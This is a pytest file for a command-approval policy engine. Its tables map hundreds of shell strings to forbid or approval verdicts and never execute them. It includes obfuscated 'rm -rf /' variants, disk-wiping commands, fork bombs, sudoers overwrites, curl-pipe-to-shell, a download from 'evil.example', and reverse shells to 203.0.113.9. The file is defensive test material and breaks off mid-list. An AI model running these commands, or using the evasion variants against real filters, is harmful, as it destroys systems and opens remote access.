"""The command policy, read as a spec: what must never run, what an admin does every day, and how
modes, permission levels and per-host settings change the answer.

Every command here is only a string handed to the pure `decide`; nothing is ever executed.
"""

from __future__ import annotations

import random
import shlex
from collections.abc import Callable
from pathlib import Path

import pytest

from executor.policy import (
    CRITICAL_FILES,
    DEFAULT_READONLY,
    PROTECTED_PATHS,
    Decision,
    ForbiddenRule,
    HostPolicy,
    PolicyConfig,
    PolicyConfigError,
    ReadOnlyRule,
    Requester,
    Verdict,
    decide,
    load_config,
    load_forbidden,
    load_readonly,
    pattern_matches,
)

F = Verdict.FORBID
A = Verdict.NEEDS_APPROVAL
OK = Verdict.ALLOW
NOT_ALLOWED = frozenset({A, F})
NOT_FORBIDDEN = frozenset({OK, A})

OPERATOR = Requester("@ops:example.org", "operator")
ADMIN = Requester("@root:example.org", "admin")
VIEWER = Requester("@viewer:example.org", "readonly")
AUTO = PolicyConfig(auto_approve_readonly=True)
REPO = Path(__file__).resolve().parents[2]

Expected = Verdict | frozenset[Verdict]


def judge(
    command: str,
    *,
    config: PolicyConfig = AUTO,
    requester: Requester = OPERATOR,
    host: str = "web1",
) -> Decision:
    return decide(command, host, requester, config)


def row(row_id: str, command: str, expected: Expected) -> object:
    return pytest.param(command, expected, id=row_id)


def assert_verdict(decision: Decision, expected: Expected, command: str) -> None:
    allowed = expected if isinstance(expected, frozenset) else frozenset({expected})
    assert decision.verdict in allowed, f"{command!r} -> {decision}"
    assert decision.reason
    assert decision.rule


# ============================================================================================
# Dangerous: none may be ALLOW; the clearly destructive ones must be FORBID.

RECURSIVE_DELETE = [
    row("rm-rf-root", "rm -rf /", F),
    row("rm-fr-root", "rm -fr /", F),
    row("rm-Rf-root", "rm -Rf /", F),
    row("rm-split-flags", "rm -r -f /", F),
    row("rm-long-flags", "rm --recursive --force /", F),
    row("rm-r-only", "rm -r /", F),
    row("rm-no-preserve-root", "rm -rf --no-preserve-root /", F),
    row("rm-no-preserve-root-after", "rm -rf / --no-preserve-root", F),
    row("rm-double-dash", "rm -rf -- /", F),
    row("rm-double-quoted-root", 'rm -rf "/"', F),
    row("rm-single-quoted-root", "rm -rf '/'", F),
    row("rm-double-slash", "rm -rf //", F),
    row("rm-slash-dot", "rm -rf /.", F),
    row("rm-slash-dot-slash", "rm -rf /./", F),
    row("rm-dotdot-to-root", "rm -rf /usr/..", F),
    row("rm-etc-dotdot", "rm -rf /etc/../", F),
    row("rm-root-glob", "rm -rf /*", F),
    row("rm-etc", "rm -rf /etc", F),
    row("rm-usr-trailing-slash", "rm -rf /usr/", F),
    row("rm-var-contents", "rm -rf /var/*", F),
    row("rm-boot", "rm -rf /boot", F),
    row("rm-home", "rm -rf /home", F),
    row("rm-bin", "rm -r /bin", F),
    row("rm-lib64", "rm -rf /lib64", F),
    row("rm-usr-lib", "rm -rf /usr/lib", F),
    row("rm-var-lib", "rm -rf /var/lib", F),
    row("rm-brace-expansion", "rm -rf /{etc,usr}", F),
    row("rm-glob-e-star", "rm -rf /e*", F),
    row("rm-glob-three-chars", "rm -rf /???", F),
    row("rm-glob-two-levels", "rm -rf /*/*", F),
    row("rm-home-tilde-root", "rm -rf ~", F),
    row("rm-home-variable", "rm -rf $HOME", F),
    row("rm-abs-path-binary", "/bin/rm -rf /", F),
    row("rm-usr-bin-binary", "/usr/bin/rm -rf /", F),
    row("rm-backslash", r"\rm -rf /", F),
    row("rm-quoted-name", '"rm" -rf /', F),
    row("rm-split-quotes", "r''m -rf /", F),
    row("rm-escaped-letter", r"r\m -rf /", F),
    row("rm-ansi-c-hex", r"$'\x72\x6d' -rf /", F),
    row("rm-ansi-c-octal", r"$'\162\155' -rf $'\057'", F),
    row("rm-line-continuation", "rm -rf \\\n/", F),
    row("rm-trailing-comment", "rm -rf / # cleanup", F),
    row("rm-command-builtin", "command rm -rf /", F),
    row("rm-builtin-exec", "exec rm -rf /", F),
    row("rm-sudo", "sudo rm -rf /", F),
    row("rm-sudo-user", "sudo -u root rm -rf /", F),
    row("rm-sudo-flags", "sudo -E -H -n rm -rf /", F),
    row("rm-sudo-shell", "sudo -s rm -rf /", F),
    row("rm-doas", "doas rm -rf /", F),
    row("rm-env", "env rm -rf /", F),
    row("rm-env-clean", "env -i PATH=/bin rm -rf /", F),
    row("rm-env-split-string", "env -S 'rm -rf /'", F),
    row("rm-nice", "nice -n 19 rm -rf /", F),
    row("rm-ionice", "ionice -c3 rm -rf /", F),
    row("rm-nohup-background", "nohup rm -rf / &", F),
    row("rm-timeout", "timeout 60 rm -rf /", F),
    row("rm-time", "time rm -rf /", F),
    row("rm-stdbuf", "stdbuf -o0 rm -rf /", F),
    row("rm-setsid", "setsid rm -rf /", F),
    row("rm-flock", "flock /tmp/lock rm -rf /", F),
    row("rm-flock-c", "flock /tmp/lock -c 'rm -rf /'", F),
    row("rm-busybox", "busybox rm -rf /", F),
    row("rm-sh-c", "sh -c 'rm -rf /'", F),
    row("rm-bash-c", 'bash -c "rm -rf /"', F),
    row("rm-bash-lc", "bash -lc 'rm -rf /'", F),
    row("rm-sudo-bash-cd", "sudo bash -c 'cd / && rm -rf *'", F),
    row("rm-nested-sh", "sh -c \"bash -c 'rm -rf /'\"", F),
    row("rm-su-c", "su -c 'rm -rf /'", F),
    row("rm-su-login", 'su - root -c "rm -rf /"', F),
    row("rm-sudo-su", "sudo su -c 'rm -rf /'", F),
    row("rm-runuser", "runuser -u root -- rm -rf /", F),
    row("rm-eval-words", "eval rm -rf /", F),
    row("rm-eval-string", "eval 'rm -rf /'", F),
    row("rm-after-semicolon", "echo ok; rm -rf /", F),
    row("rm-after-and", "true && rm -rf /", F),
    row("rm-after-or", "false || rm -rf /", F),
    row("rm-in-background-list", "sleep 1 & rm -rf /", F),
    row("rm-newline-list", "uptime\nrm -rf /", F),
    row("rm-subshell", "(rm -rf /)", F),
    row("rm-brace-group", "{ rm -rf /; }", F),
    row("rm-in-cmdsub", "echo $(rm -rf /)", F),
    row("rm-in-backticks", "echo `rm -rf /`", F),
    row("rm-in-procsub", "cat <(rm -rf /)", F),
    row("rm-in-pipeline", "ls | rm -rf /", F),
    row("rm-in-if", "if true; then rm -rf /; fi", F),
    row("rm-in-while", "while true; do rm -rf /; done", F),
    row("rm-in-case", "case x in x) rm -rf / ;; esac", F),
    row("rm-in-function", "f() { rm -rf /; }; f", F),
    row("rm-in-heredoc-cmdsub", "cat <<EOF\n$(rm -rf /)\nEOF", F),
    row("rm-cd-root-star", "cd / && rm -rf *", F),
    row("rm-cd-root-semicolon", "cd /; rm -rf *", F),
    row("rm-cd-etc-dot", "cd /etc && rm -rf .", F),
    row("rm-variable-target", "X=/; rm -rf $X", F),
    row("rm-variable-name", "X=rm; $X -rf /", F),
    row("rm-variable-pieces", "a=r; b=m; $a$b -rf /", F),
    row("rm-variable-whole-command", "X='rm -rf /'; $X", F),
    row("rm-eval-variable", "X='rm -rf /'; eval $X", F),
    row("rm-ifs-trick", "IFS=,; X=rm,-rf,/; $X", F),
    row("rm-cmdsub-name", "$(echo rm) -rf /", F),
    row("rm-backtick-name", "`echo rm` -rf /", F),
    row("rm-printf-name", "$(printf 'r%s' m) -rf /", F),
    row("rm-unknown-name", "$CMD -rf /", F),
    row("rm-unknown-braced-name", "${CMD} -rf /", F),
    row("rm-unset-var-glob", "rm -rf $UNSET_DIR/*", F),
    row("rm-steam-bug", 'rm -rf "$STEAMROOT/"*', F),
    row("rm-default-root", 'rm -rf "${ROOT:-/}"', F),
    row("rm-for-loop", 'for d in /etc /usr; do rm -rf "$d"; done', F),
    row("rm-for-glob", 'cd / && for f in *; do rm -rf "$f"; done', F),
    row("rm-sh-c-positional", "sh -c 'rm -rf $1' sh /", F),
    row("rm-bash-c-zero", "bash -c 'rm -rf \"$0\"' /", F),
    row("rm-echo-pipe-sh", 'echo "rm -rf /" | sh', F),
    row("rm-printf-pipe-bash", "printf 'rm -rf /\\n' | bash", F),
    row("rm-here-string-bash", "bash <<< 'rm -rf /'", F),
    row("rm-heredoc-sh", "sh <<END\nrm -rf /\nEND", F),
    row("rm-quoted-heredoc-sh", "sh <<'END'\nrm -rf /\nEND", F),
    row("rm-at-now", "echo 'rm -rf /' | at now", F),
    row("rm-ssh-remote", "ssh db1 rm -rf /", F),
    row("rm-ssh-quoted", "ssh -p 2222 db1 'rm -rf /'", F),
    row("rm-watch", "watch -n 5 rm -rf /", F),
    row("rm-docker-exec", "docker exec -it web sh -c 'rm -rf /'", F),
    row("rm-python-system", "python3 -c 'import os; os.system(\"rm -rf /\")'", F),
    row("rm-python-rmtree", "python3 -c 'import shutil; shutil.rmtree(\"/\")'", F),
    row("rm-perl-system", "perl -e 'system(\"rm -rf /\")'", F),
    row("rm-awk-system", "awk 'BEGIN { system(\"rm -rf /\") }'", F),
    row("rm-unbalanced-quote", 'rm -rf / "', F),
    row("rm-unbalanced-single", "rm -rf / 'oops", F),
    row("rm-unclosed-subshell", "(rm -rf /", F),
    row("find-delete-root", "find / -delete", F),
    row("find-delete-etc", "find /etc -type f -delete", F),
    row("find-exec-rm-root", r"find / -exec rm -rf {} \;", F),
    row("find-exec-plus", "find / -mindepth 1 -exec rm -rf {} +", F),
    row("find-exec-sh", "find / -maxdepth 0 -exec sh -c 'rm -rf \"$1\"' _ {} \\;", F),
    row("xargs-echo-root", "echo / | xargs rm -rf", F),
    row("xargs-here-string", "xargs rm -rf <<< /", F),
    row("xargs-replace", "echo / | xargs -I{} rm -rf {}", F),
    row("xargs-find-root", "find / -maxdepth 0 -print0 | xargs -0 rm -rf", F),
    row("xargs-find-all", "find / -type f | xargs rm -f", NOT_ALLOWED),
    row("parallel-rm", "parallel rm -rf ::: /etc /usr", F),
    row("rsync-delete-root", "rsync -a --delete /tmp/empty/ /", F),
    row("rsync-delete-etc", "rsync -a --delete-before /tmp/empty/ /etc/", F),
    row("mv-etc-away", "mv /etc /tmp/etc-old", F),
    row("mv-root-to-null", "mv / /dev/null", F),
    row("mv-usr-glob", "mv /usr/* /tmp/", F),
    row("rm-dotdot-chain", "rm -rf ../../../../../../../..", NOT_ALLOWED),
    row("rm-unicode-lookalike", "rм -rf /", NOT_ALLOWED),
    row("rm-zero-width", "rm\u200b -rf /", NOT_ALLOWED),
]

DISKS = [
    row("mkfs-ext4", "mkfs.ext4 /dev/sda1", F),
    row("mkfs-t", "mkfs -t ext4 /dev/sdb", F),
    row("mke2fs", "mke2fs /dev/sdc1", F),
    row("mkfs-xfs-force", "mkfs.xfs -f /dev/nvme0n1p1", F),
    row("mkfs-sudo-btrfs", "sudo mkfs.btrfs /dev/vdb", F),
    row("mkswap-device", "mkswap /dev/sda2", F),
    row("dd-zero-sda", "dd if=/dev/zero of=/dev/sda", F),
    row("dd-random-nvme", "dd if=/dev/urandom of=/dev/nvme0n1 bs=1M", F),
    row("dd-image-onto-disk", "dd of=/dev/sda if=/tmp/image.iso", F),
    row("dd-mapper", "dd if=/dev/zero of=/dev/mapper/vg0-root", F),
    row("dd-by-id", "dd if=/dev/zero of=/dev/disk/by-id/ata-SAMSUNG_123", F),
    row("dd-sudo-xvda", "sudo dd if=/dev/zero of=/dev/xvda bs=4M count=1", F),
    row("dd-mmc", "dd if=/dev/zero of=/dev/mmcblk0", F),
    row("dd-lvm", "dd if=/dev/zero of=/dev/vg0/data", F),
    row("dd-variable-disk", "DISK=/dev/sda; dd if=/dev/zero of=$DISK", F),
    row("dd-mem", "dd if=/dev/zero of=/dev/mem", F),
    row("cat-zero-to-disk", "cat /dev/zero > /dev/sda", F),
    row("echo-to-disk", "echo garbage > /dev/sda", F),
    row("bare-redirect-disk", "> /dev/sda", F),
    row("cp-zero-to-disk", "cp /dev/zero /dev/sdb", F),
    row("tee-disk", "tee /dev/sda < /dev/urandom", F),
    row("yes-to-disk", "yes > /dev/vda", F),
    row("head-to-dm", "head -c 1M /dev/urandom > /dev/dm-0", F),
    row("cat-image-to-raid", "cat image.img > /dev/md0", F),
    row("exec-fd-disk", "exec 3>/dev/sda", F),
    row("read-write-redirect-disk", "echo x 1<>/dev/sda", F),
    row("redirect-disk-glob", "echo x > /dev/sd*", F),
    row("shred-disk", "shred -n 3 /dev/sda", F),
    row("truncate-disk", "truncate -s 0 /dev/sda", F),
    row("wipefs-all", "wipefs -a /dev/sda", F),
    row("sgdisk-zap", "sgdisk --zap-all /dev/sda", F),
    row("blkdiscard", "blkdiscard /dev/nvme0n1", F),
    row("parted-mklabel", "parted /dev/sda --script mklabel gpt", F),
    row("sfdisk-rewrite", "sfdisk /dev/sda < layout.txt", F),
    row("cryptsetup-format", "cryptsetup luksFormat /dev/sdb", F),
    row("badblocks-write", "badblocks -w /dev/sdb", F),
    row("zpool-destroy", "zpool destroy tank", F),
    row("fdisk-interactive", "fdisk /dev/sda", NOT_ALLOWED),
]

POWER = [
    row("shutdown-now", "shutdown -h now", F),
    row("shutdown-plain", "shutdown now", F),
    row("shutdown-reboot-later", "shutdown -r +1", F),
    row("reboot", "reboot", F),
    row("reboot-sudo", "sudo reboot", F),
    row("reboot-abs-force", "/sbin/reboot -f", F),
    row("halt", "halt", F),
    row("poweroff", "poweroff", F),
    row("init-0", "init 0", F),
    row("init-6", "init 6", F),
    row("telinit-1", "telinit 1", F),
    row("systemctl-reboot", "systemctl reboot", F),
    row("systemctl-poweroff-force", "systemctl poweroff --force", F),
    row("systemctl-halt-sudo", "sudo systemctl halt", F),
    row("systemctl-kexec", "systemctl kexec", F),
    row("systemctl-suspend", "systemctl suspend", F),
    row("systemctl-emergency", "systemctl emergency", F),
    row("systemctl-isolate-rescue", "systemctl isolate rescue.target", F),
    row("systemctl-start-poweroff", "systemctl start poweroff.target", F),
    row("systemctl-set-default-emergency", "systemctl set-default emergency.target", F),
    row("loginctl-reboot", "loginctl reboot", F),
    row("kexec-exec", "kexec -e", F),
    row("sysrq-reboot", "echo b > /proc/sysrq-trigger", F),
    row("sysrq-tee", "echo o | sudo tee /proc/sysrq-trigger", F),
    row("busybox-reboot", "busybox reboot", F),
    row("sleep-then-reboot", "sleep 60 && reboot", F),
    row("at-reboot", "echo reboot | at now + 1 minute", F),
    row("reboot-in-cmdsub", "echo $(reboot)", F),
]

FORK_BOMBS = [
    row("classic", ":(){ :|:& };:", F),
    row("classic-spaced", ":(){ :|: & }; :", F),
    row("named", "bomb() { bomb | bomb & }; bomb", F),
    row("function-keyword", "function f { f | f & }; f", F),
    row("background-twice", "f(){ f & f & }; f", F),
    row("dot-name", ".() { .|.& }; .", F),
    row("in-bash-c", "bash -c ':(){ :|:& };:'", F),
    row("spawn-loop", "while true; do sh -c 'sleep 100' & done", F),
    row("spawn-loop-colon", "while :; do $0 & done", F),
    row("spawn-until", "until false; do yes > /dev/null & done", F),
    row("perl-fork", "perl -e 'fork while fork'", F),
    row("python-fork", "python3 -c 'import os\nwhile True: os.fork()'", F),
    row("no-space-syntax-error", ":(){:|:&};:", NOT_ALLOWED),
]

PERMISSIONS = [
    row("chmod-777-root", "chmod -R 777 /", F),
    row("chmod-000-etc", "chmod -R 000 /etc", F),
    row("chmod-long-flag", "chmod --recursive 755 /", F),
    row("chmod-flag-after", "chmod 777 -R /", F),
    row("chmod-root-glob", "chmod -R 777 /*", F),
    row("chmod-minus-x-bin", "sudo chmod -R a-x /bin", F),
    row("chown-root", "chown -R nobody:nogroup /", F),
    row("chown-usr", "chown -R www-data /usr", F),
    row("chown-cluster", "chown -hR deploy /var", F),
    row("chgrp-root", "chgrp -R users /", F),
    row("setfacl-root", "setfacl -R -m u:deploy:rwx /", F),
]

CRITICAL = [
    row("passwd-overwrite", "echo 'root::0:0::/root:/bin/bash' > /etc/passwd", F),
    row("shadow-truncate", "> /etc/shadow", F),
    row("sudoers-dev-null", "cat /dev/null > /etc/sudoers", F),
    row("passwd-cp", "cp /tmp/passwd /etc/passwd", F),
    row("shadow-mv", "mv /tmp/shadow /etc/shadow", F),
    row("sudoers-tee-here-string", "tee /etc/sudoers <<< 'x ALL=(ALL) NOPASSWD: ALL'", F),
    row("sudoers-append", "echo 'bob ALL=(ALL) NOPASSWD:ALL' >> /etc/sudoers", F),
    row("sudoers-tee-append", "echo x | sudo tee -a /etc/sudoers", F),
    row("passwd-sed-in-place", "sed -i 's/x/y/' /etc/passwd", F),
    row("shadow-perl-in-place", "perl -pi -e 's/a/b/' /etc/shadow", F),
    row("shadow-rm", "rm /etc/shadow", F),
    row("passwd-rm-f", "rm -f /etc/passwd", F),
    row("passwd-truncate", "truncate -s0 /etc/passwd", F),
    row("shadow-symlink", "ln -sf /dev/null /etc/shadow", F),
    row("passwd-dd", "dd if=/dev/zero of=/etc/passwd", F),
    row("shadow-install", "install -m 600 x /etc/shadow", F),
    row("sudoers-sh-c", "sudo sh -c 'echo > /etc/sudoers'", F),
    row("passwd-printf", "printf '' >/etc/passwd", F),
    row("group-clobber", "echo x >| /etc/group", F),
    row("gshadow-colon", ": > /etc/gshadow", F),
    row("sudoers-cp-null", "cp /dev/null /etc/sudoers", F),
    row("passwd-relative", "cd /etc && echo x > passwd", F),
    row("shadow-shred", "shred -u /etc/shadow", F),
    row("userdel-root", "userdel -r root", F),
]

KILLS = [
    row("kill-9-init", "kill -9 1", F),
    row("kill-init", "kill 1", F),
    row("kill-KILL-init", "kill -KILL 1", F),
    row("kill-s-init", "kill -s KILL 1", F),
    row("kill-sigterm-init", "kill -SIGTERM 1", F),
    row("kill-double-dash-init", "kill -9 -- 1", F),
    row("kill-all", "kill -9 -1", F),
    row("kill-all-double-dash", "kill -- -1", F),
    row("killall-sshd", "killall sshd", F),
    row("killall-9-sshd", "killall -9 sshd", F),
    row("killall5", "killall5 -9", F),
    row("pkill-sshd", "pkill sshd", F),
    row("pkill-full-sshd", "pkill -9 -f sshd", F),
    row("pkill-ssh-substring", "pkill ssh", F),
    row("pkill-systemd", "pkill systemd", F),
    row("pkill-inverse", "pkill -v nginx", F),
    row("kill-pidof-sshd", "kill $(pidof sshd)", F),
    row("kill-backticks-pgrep", "kill -9 `pgrep sshd`", F),
    row("kill-pidfile", "kill -9 $(cat /run/sshd.pid)", F),
    row("kill-pidfile-redirect", "kill $(< /var/run/sshd.pid)", F),
    row("xargs-kill-sshd", "pgrep sshd | xargs kill -9", F),
    row("systemctl-stop-sshd", "systemctl stop sshd", F),
    row("systemctl-stop-ssh", "systemctl stop ssh", F),
    row("systemctl-kill-ssh", "sudo systemctl kill ssh.service", F),
    row("systemctl-disable-now", "systemctl disable --now ssh", F),
    row("systemctl-mask-sshd", "systemctl mask sshd", F),
    row("systemctl-stop-socket", "systemctl stop ssh.socket ssh.service", F),
    row("service-ssh-stop", "service ssh stop", F),
    row("initd-ssh-stop", "/etc/init.d/ssh stop", F),
    row("rc-service-sshd-stop", "rc-service sshd stop", F),
]

FIREWALL = [
    row("iptables-F", "iptables -F", F),
    row("iptables-flush", "iptables --flush", F),
    row("iptables-nat-F", "iptables -t nat -F", F),
    row("iptables-F-chain", "sudo iptables -F INPUT", F),
    row("iptables-X", "iptables -X", F),
    row("iptables-F-and-X", "iptables -F && iptables -X", F),
    row("ip6tables-F", "ip6tables -F", F),
    row("iptables-policy-drop", "iptables -P INPUT DROP", F),
    row("iptables-nft-flush", "iptables-nft -F", F),
    row("nft-flush-ruleset", "nft flush ruleset", F),
    row("nft-one-arg", "nft 'flush ruleset'", F),
    row("nft-delete-table", "nft delete table inet filter", F),
    row("ufw-disable", "ufw disable", F),
    row("ufw-reset", "ufw --force reset", F),
    row("firewalld-panic", "firewall-cmd --panic-on", F),
    row("systemctl-stop-firewalld", "systemctl stop firewalld", F),
    row("systemctl-disable-now-ufw", "systemctl disable --now ufw", F),
    row("service-ufw-stop", "service ufw stop", F),
]

REMOTE_CODE = [
    row("curl-sh", "curl -fsSL https://example.com/install.sh | sh", F),
    row("curl-bash", "curl https://example.com/x | bash", F),
    row("curl-sudo-bash", "curl -s https://example.com/x | sudo bash", F),
    row("curl-sudo-bash-s", "curl -s https://example.com/x | sudo -E bash -s -- --yes", F),
    row("wget-sh", "wget -qO- https://example.com/x | sh", F),
    row("wget-dash-o", "wget -O - https://example.com/x | bash", F),
    row("curl-python", "curl https://example.com/x | python3", F),
    row("curl-python-dash", "curl https://example.com/x | python3 -", F),
    row("curl-perl", "curl https://example.com/x | perl", F),
    row("curl-tee-sh", "curl https://example.com/x | tee /tmp/log | sh", F),
    row("curl-env-bash", "curl https://example.com/x | env bash", F),
    row("curl-busybox-sh", "curl https://example.com/x | busybox sh", F),
    row("curl-sh-dash", "curl https://example.com/x | sh -", F),
    row("curl-at", "curl -s https://example.com/x | at now", F),
    row("nc-sh", "nc evil.example 4444 | sh", F),
    row("bash-procsub-curl", "bash <(curl -s https://example.com/x)", F),
    row("sh-c-cmdsub-curl", 'sh -c "$(curl -fsSL https://example.com/x)"', F),
    row("bash-c-cmdsub-wget", 'bash -c "$(wget -qO- https://example.com/x)"', F),
    row("source-procsub", "source <(curl -s https://example.com/x)", F),
    row("dot-procsub", ". <(wget -qO- https://example.com/x)", F),
    row("eval-curl", 'eval "$(curl -s https://example.com/x)"', F),
    row("python-c-curl", 'python3 -c "$(curl -s https://example.com/x)"', F),
    row("sh-stdin-procsub", "sh < <(curl -s https://example.com/x)", F),
    row("curl-as-command", "$(curl -s https://example.com/cmd)", F),
    row("dev-tcp-reverse-shell", "bash -i >& /dev/tcp/203.0.113.9/4444 0>&1", F),
    row("nc-e-reverse-shell", "nc -e /bin/sh 203.0.113.9 4444", F),
    row("socat-reverse-shell", "socat exec:'bash -li',pty tcp:203.0.113.9:4444", F),
    row("base64-sh", "echo cm0gLXJmIC8K | base64 -d | sh", F),
    row("base64-decode-bash", "echo cm0gLXJmIC8K | base64 --decode | bash", F),
    row("base64-here-string", "base64 -d <<< cm0gLXJmIC8K | sh", F),
    row("eval-base64", 'eval "$(echo cm0gLXJmIC8K | base64 -d)"', F),
    row("bash-c-base64", 'bash -c "$(base64 -d <<< cm0gLXJmIC8K)"', F),
    row("xxd-sh", "echo 726d202d7266202f | xxd -r -p | sh", F),
    row("here-string-base64", 'sh <<< "$(base64 -d <<< cm0gLXJmIC8K)"', F),
    row("openssl-base64", "echo cm0= | openssl base64 -d | sh", F),
    row("gunzip-sh", "cat payload.gz | gunzip | sh", F),
    row("rev-sh", "rev <<< '/ fr- mr' | sh", F),
    row("rot13-sh", "echo 'ez -es /' | tr a-z n-za-m | sh", F),
    row(
        "download-then-run",
        "curl -o /tmp/i.sh https://example.com/i.sh && sh /tmp/i.sh",
        NOT_ALLOWED,
    ),
    row("cat-script-pipe-sh", "cat /tmp/script.sh | sh", NOT_ALLOWED),
    row("sh-c-unknown", 'sh -c "$SCRIPT"', NOT_ALLOWED),
]

HIDDEN_CODE = [
    row("array-subscript", "echo ${a[$(rm -rf /)]}", F),
    row("default-value", "echo ${X:-$(reboot)}", F),
    row("arithmetic", "echo $(( $(reboot) + 1 ))", F),
    row("test-expression", "[[ -n $(reboot) ]]", F),
    row("case-word", "case $(reboot) in *) ;; esac", F),
    row("for-items", "for x in $(rm -rf /); do :; done", F),
    row("find-name-star", "find / -name '*' -delete", F),
    row("trap-exit", "trap 'rm -rf /' EXIT", F),
    row("alias", "alias ls='rm -rf /'; ls", F),
    row("git-alias", "git -c alias.x='!rm -rf /' x", F),
    row("git-ssh-command", "git -c core.sshCommand='rm -rf /' fetch", F),
    row("ssh-proxy-command", "ssh -o ProxyCommand='rm -rf /' db1", F),
    row("tar-to-command", "tar xf a.tar --to-command='rm -rf /'", F),
    row(
        "tar-checkpoint",
        "tar cf /dev/null /etc --checkpoint=1 --checkpoint-action=exec='reboot'",
        F,
    ),
    row("rsync-rsh", "rsync -e 'sh -c \"rm -rf /\"' a db1:b", F),
    row("vim-bang", "vim -c ':!rm -rf /' -c ':q' notes.txt", F),
    row("crontab-stdin", "echo '* * * * * rm -rf /' | crontab -", F),
    row("crontab-reboot", "echo '@reboot mkfs.ext4 /dev/sda' | crontab", F),
    row("dynamic-shell-c", "$SHELL -c 'rm -rf /'", F),
    row("ip-netns-exec", "ip netns exec blue rm -rf /", F),
    row("sshpass", "sshpass -p secret ssh db1 'rm -rf /'", F),
    row("socat-exec", "socat - EXEC:'rm -rf /'", F),
    row("gosu", "gosu root rm -rf /", F),
    row("lxc-exec", "lxc exec c1 -- rm -rf /", F),
    row("kubectl-exec", "kubectl exec -it web -- sh -c 'reboot'", F),
    row("prompt-expansion", "x='$(reboot)'; echo ${x@P}", F),
    row("arithmetic-injection", "x='a[$(reboot)]'; echo $((x))", F),
    row("arithmetic-injection-test", "x='a[$(reboot)]'; [[ $x -eq 1 ]]", F),
    row("arithmetic-indirect", "y='a[$(reboot)]'; x=y; echo $((x + 1))", F),
    row("printf-v-subscript", "printf -v 'a[$(reboot)]' x", F),
    row("test-v-subscript", "test -v 'a[$(reboot)]'", F),
    row("test-v-quoted", "[[ -v 'a[$(reboot)]' ]]", F),
    row("brace-expanded-command", "{rm,-rf,/}", F),
    row("zsh-glob-qualifier", "ls *(e:'reboot':)", NOT_ALLOWED),
    row("arithmetic-from-data", "x=$(cat /tmp/data); echo $((x + 1))", NOT_ALLOWED),
]

DANGEROUS = RECURSIVE_DELETE + DISKS + POWER + FORK_BOMBS + PERMISSIONS + CRITICAL + KILLS
DANGEROUS += FIREWALL + REMOTE_CODE + HIDDEN_CODE


@pytest.mark.parametrize(("command", "expected"), DANGEROUS)
def test_dangerous_commands_are_never_allowed(command: str, expected: Expected) -> None:
    assert_verdict(judge(command), expected, command)


@pytest.mark.parametrize(("command", "expected"), DANGEROUS)
def test_no_level_and_no_host_setting_skips_the_forbid_list(
    command: str, expected: Expected
) -> None:
    lenient = PolicyConfig(auto_approve_readonly=True, mode="allowlist", allowlist=("*", "* ..."))
    decision = judge(command, config=lenient, requester=ADMIN)
    assert decision.verdict is not OK, decision
    if expected is F:
        assert decision.verdict is F, decision


# ============================================================================================
# Everyday admin work: none may be FORBID.

EVERYDAY = [
    row("ls-var-log", "ls -la /var/log", OK),
    row("df", "df -h", OK),
    row("du", "du -sh /var/lib/docker", OK),
    row("free", "free -m", OK),
    row("uptime", "uptime", OK),
    row("uname", "uname -a", OK),
    row("whoami-id", "whoami; id", OK),
    row("hostname", "hostname", OK),
    row("cat-passwd", "cat /etc/passwd", OK),
    row("cat-os-release", "cat /etc/os-release", OK),
    row("head-syslog", "head -n 20 /var/log/syslog", OK),
    row("tail-syslog", "tail -n 100 /var/log/syslog", OK),
    row("tail-follow", "tail -f /var/log/nginx/access.log", OK),
    row("grep-errors", "grep -i error /var/log/syslog", OK),
    row("grep-nginx-config", 'grep -r "listen" /etc/nginx/ | head', OK),
    row("systemctl-status", "systemctl status nginx", OK),
    row("systemctl-status-no-pager", "systemctl status nginx --no-pager", OK),
    row("systemctl-is-active", "systemctl is-active docker", OK),
    row("systemctl-failed", "systemctl list-units --failed", OK),
    row("journalctl-unit", "journalctl -u nginx -n 50", OK),
    row("journalctl-since", 'journalctl -u nginx --since "1 hour ago" --no-pager', OK),
    row("docker-ps", "docker ps", OK),
    row("docker-ps-a", "docker ps -a", OK),
    row("docker-logs", "docker logs --tail 100 web", OK),
    row("ps-aux", "ps aux", OK),
    row("ps-grep", "ps aux | grep nginx", OK),
    row("ss", "ss -tlnp", OK),
    row("ip-addr", "ip addr", OK),
    row("lsblk", "lsblk", OK),
    row("find-old-logs", "find /var/log -name '*.gz' -mtime +30", OK),
    row("wc-logs-glob", "wc -l /var/log/*.log", OK),
    row("for-wc", 'for f in /var/log/*.log; do wc -l "$f"; done', OK),
    row("if-active", "if systemctl is-active --quiet nginx; then echo up; fi", OK),
    row("git-status", "cd /srv/app && git status", OK),
    row("git-log", "git log --oneline -n 10", OK),
    row("iptables-list", "iptables -L -n --line-numbers", OK),
    row("dmesg-tail", "dmesg -T | tail -n 50", OK),
    row("cut-users", "cut -d: -f1 /etc/passwd", OK),
    row("stderr-to-null", "ls /nonexistent 2>/dev/null || echo missing", OK),
    row("crontab-list", "crontab -l", OK),
    row("nginx-test", "nginx -t", A),  # writes its pid file: not on the read-only list
    row("date", "date", OK),
    row("arithmetic", "echo $((1 + 2)); n=5; echo $((n * 2))", OK),
    row("arithmetic-loop", "for i in 1 2 3; do echo $((i * 2)); done", OK),
    row("test-numbers", "[[ 3 -gt 2 ]] && echo yes", OK),
    row("systemctl-restart", "systemctl restart nginx", A),
    row("systemctl-reload", "systemctl reload nginx", A),
    row("restart-sshd", "sudo systemctl restart sshd", A),
    row("systemctl-stop-app", "systemctl stop myapp", A),
    row("apt-install", "apt-get install -y htop", A),
    row("apt-upgrade", "apt-get update && apt-get upgrade -y", A),
    row("git-pull", "git pull", A),
    row("deploy", "cd /srv/app && git pull && docker compose up -d", A),
    row("docker-restart", "docker restart web", A),
    row("rm-tmp-build", "rm -rf /tmp/build", A),
    row("rm-node-modules", "rm -rf ./node_modules", A),
    row("rm-two-dirs", "rm -rf node_modules dist", A),
    row("rm-rotated-log", "rm /var/log/nginx/access.log.1", A),
    row("rm-www-contents", "cd /var/www && rm -rf *", A),
    row("rm-cache-home", 'rm -rf "$HOME/.cache"', A),
    row("rm-log-glob", "rm -rf /var/log/nginx/*.gz", A),
    row("chmod-site", "chmod -R 755 /var/www/site", A),
    row("chown-site", "chown -R www-data:www-data /var/www/site", A),
    row("kill-pid", "kill 12345", A),
    row("kill-hup-pidfile", "kill -HUP $(cat /run/nginx.pid)", A),
    row("pkill-gunicorn", "pkill -f gunicorn", A),
    row("mkdir", "mkdir -p /srv/app/releases", A),
    row("cp-config", "cp nginx.conf /etc/nginx/nginx.conf", A),
    row("tar-extract", "tar -xzf app.tar.gz -C /srv/app", A),
    row("find-delete-old-logs", "find /var/log -name '*.gz' -mtime +30 -delete", A),
